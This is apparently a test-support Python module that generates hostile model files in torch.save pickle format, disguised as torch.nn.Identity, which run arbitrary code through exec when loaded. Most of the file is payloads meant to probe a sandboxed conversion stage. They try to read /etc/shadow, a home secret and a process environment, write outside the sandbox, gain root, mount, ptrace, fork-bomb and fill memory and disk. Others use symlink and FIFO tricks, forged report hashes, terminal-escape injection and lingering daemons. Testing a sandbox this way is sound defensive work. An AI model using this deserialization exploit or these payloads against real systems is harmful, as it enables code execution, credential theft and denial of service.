"""Models that attack: files of torch.save's format whose loading runs the code below.

Every attempt says what came of it in the stage's log: `through: ...` or `held: ...`. Those that use
something up stop by themselves at some point, so that a hole in the walls costs a test and not the
machine.
"""

from __future__ import annotations

import pickle
from pathlib import Path
from typing import Any

_SYSTEM = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}

PRELUDE = """
import errno, hashlib, json, os, socket, stat, subprocess, sys, time
volume = sys.argv[sys.argv.index('--volume') + 1]
def attempt(what, function):
    try:
        value = function()
    except BaseException as error:
        print('held: %s: %s' % (what, error), flush=True)
    else:
        print('through: %s: %r' % (what, value), flush=True)
def write(path, data=b'written by a model'):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as file:
        file.write(data)
    return path
def report(sha256, bytes=4, **other):
    data = dict(schema=1, stage='torch', status='ok', started='', seconds=1.0, phases={},
        peak_memory_bytes=0, platform={}, versions={}, options={}, notes=[], input=None,
        artifact=dict(path='model.onnx', sha256=sha256, bytes=bytes), operators={}, check=None,
        signature=dict(inputs=[], outputs=[]), error=None)
    data.update(other)
    return json.dumps(data).encode()
def answer(content):
    write(volume + '/reports/torch.json', content)
def leave():
    sys.stdout.flush()
    os._exit(0)
"""

# What it is about; {} are filled in by the test.
REACHES = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if name == 'keys':
        name, arguments = 'syscall', (250, 0, -3, 1)  # keyctl: the session's keyring
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def connect(family, address):
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)
        client.send(b'hello')
import torch
attempt('write outside', lambda: open({outside!r} + '/written', 'w').write('x'))
attempt('write into the home folder', lambda: write({home!r} + '/.runner-hostile-test'))
packages = os.path.dirname(torch.__file__)
attempt('write into the environment', lambda: write(packages + '/hostile.py'))
import stages
attempt('write into the stages', lambda: write(stages.__path__[0] + '/hostile.py'))
attempt('write into /etc', lambda: write('/etc/runner-hostile-test'))
attempt('read a secret in the home folder', lambda: open({secret!r}).read())
attempt('read the hashes of passwords', lambda: open('/etc/shadow').read()[:9])
attempt('connect to this machine', lambda: connect(socket.AF_INET, ('127.0.0.1', {port})))
attempt('connect to an abstract socket', lambda: connect(socket.AF_UNIX, {abstract!r}))
attempt('connect elsewhere', lambda: connect(socket.AF_INET, ('192.0.2.1', 80)))
attempt('make a socket to the hypervisor', lambda: socket.socket(40, socket.SOCK_STREAM).close())
attempt('read the runner', lambda: open('/proc/{pid}/environ', 'rb').read()[:9])
attempt('end the runner', lambda: os.kill({pid}, 0))
attempt('become root', lambda: os.setuid(0))
attempt('mount', lambda: call('mount', b'none', b'/tmp', b'tmpfs', 0, None))
attempt('make namespaces', lambda: call('unshare', 0x10000000))
disk = volume + '/disk'
attempt('make a device', lambda: os.mknod(disk, stat.S_IFBLK | 0o600, os.makedev(8, 0)))
attempt('trace the runner', lambda: call('ptrace', 16, {pid}, None, None))
attempt('use keys', lambda: call('keys'))
"""

FORKS = """
children = 0
while children < 400:
    try:
        child = os.fork()
    except OSError as error:
        print('held: fork %d: %s' % (children, error), flush=True)
        break
    if child == 0:
        time.sleep(600)
        os._exit(0)
    children += 1
else:
    print('through: 400 processes', flush=True)
"""

MEMORY = """
kept = []
while len(kept) < 400:
    kept.append(bytearray(os.urandom(1 << 10) * (10 << 10)))
print('through: 4 GB', flush=True)
"""

DISK = """
block = os.urandom(1 << 20)
for number in range(400):
    with open('%s/%d' % (volume, number), 'wb') as file:
        for _ in range(10):
            file.write(block)
    time.sleep(0.05)
print('through: 4 GB', flush=True)
"""

ONE_FILE = """
with open(volume + '/large', 'wb') as file:
    while file.tell() < 4 << 30:
        file.write(bytes(1 << 20))
print('through: 4 GB', flush=True)
"""

FILES = """
for number in range(200000):
    open('%s/%d' % (volume, number), 'w').close()
print('through: 200000 files', flush=True)
time.sleep(600)
"""

FOREVER = """
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
print('began', flush=True)
while True:
    pass
"""

PRINTS = """
line = 'x' * 99
for _ in range(20000000):
    print(line)
print('through: 2 GB', flush=True)
time.sleep(600)
"""

ONE_LINE = """
for _ in range(2000):
    sys.stdout.write('x' * (1 << 20))
print('through: 2 GB', flush=True)
time.sleep(600)
"""

LINK = """
os.symlink({secret!r}, volume + '/model.onnx')
answer(report({digest!r}))
leave()
"""

FIFO = """
os.mkfifo(volume + '/model.onnx')
answer(report('0' * 64))
leave()
"""

REPORT_LINK = """
os.makedirs(volume + '/reports', exist_ok=True)
path = volume + '/reports/torch.json'
if os.path.exists(path):
    os.unlink(path)
os.symlink({secret!r}, path)
leave()
"""

REPORT_FIFO = REPORT_LINK.replace("os.symlink({secret!r}, path)", "os.mkfifo(path)")

FOLDER_LINK = """
import shutil
write(volume + '/model.onnx', b'fake')
answer(report(hashlib.sha256(b'fake').hexdigest()))
shutil.rmtree(volume + '/requests')
os.symlink({outside!r}, volume + '/requests')
leave()
"""

LIES = """
write(volume + '/model.onnx', b'fake')
answer(report(hashlib.sha256(b'other').hexdigest()))
leave()
"""

NAMES = """
answer(report('0' * 64, artifact=dict(path='../../secret', sha256='0' * 64, bytes=1)))
leave()
"""

ESCAPES = """
print('\\x1b]0;owned\\x07\\x1b[2J', flush=True)
answer(report('0' * 64, status='failed', artifact=None, error=dict(phase='convert', type='E',
    message='\\x1b[2Jowned\\x9b1m', remedy='\\x1b]8;;http://x\\x07', blame='stage', traceback=[])))
os._exit(1)
"""

EMPTY = """
tensor = dict(name='x', shape=[0], dtype='float32', node='x')
answer(report('0' * 64, signature=dict(inputs=[tensor], outputs=[])))
leave()
"""

FLOOR = """
answer(report('0' * 64, noise_floor=dict(samples=-1, outputs=None, reason='')))
leave()
"""

NESTED = """
answer(b'[' * 100000)
leave()
"""

DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(900)', {mark!r}])
    os._exit(0)
os.wait()
time.sleep(1)
print('left a daemon', flush=True)
"""

CLOSED = """
os.chdir(volume)
for _ in range(3000):
    os.mkdir('d')
    os.chdir('d')
os.chdir(volume)
os.mkdir('closed')
open('closed/file', 'w').close()
os.chmod('closed', 0)
time.sleep(600)
"""

# Folders whose names never stay, above a file that is larger than it may be.
MOVES = """
os.chdir(volume)
for _ in range(60):
    os.mkdir('a')
    os.chdir('a')
for name in ('one', 'two'):
    with open(name, 'wb') as file:
        file.truncate(25 << 20)
places = []
while os.getcwd() != volume:
    os.chdir('..')
    places.append(os.open('.', os.O_RDONLY))
for _ in range(2):
    if os.fork() == 0:
        while True:
            for place in places:
                for old, new in (('a', 'b'), ('b', 'a')):
                    try:
                        os.rename(old, new, src_dir_fd=place, dst_dir_fd=place)
                    except OSError:
                        pass
time.sleep(600)
"""


class _Runs:
    """Pickles as a call of exec."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.code, {})


def hostile_file(path: Path, payload: str, **values: Any) -> Path:
    """Write a model that runs a payload when it is loaded."""
    code = PRELUDE + (payload.format(**values) if values else payload)
    head = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, _SYSTEM)]
    path.write_bytes(b"".join([*head, _as_module(_Runs(code)), pickle.dumps([], 2)]))
    return path


def _as_module(argument: Any) -> bytes:
    """A pickled module, as far as can be told without running it: torch.nn.Identity(argument)."""
    call = pickle.dumps(argument, 2)[2:-1]  # without PROTO and STOP
    return b"\x80\x02ctorch.nn.modules.linear\nIdentity\n(" + call + b"tR."
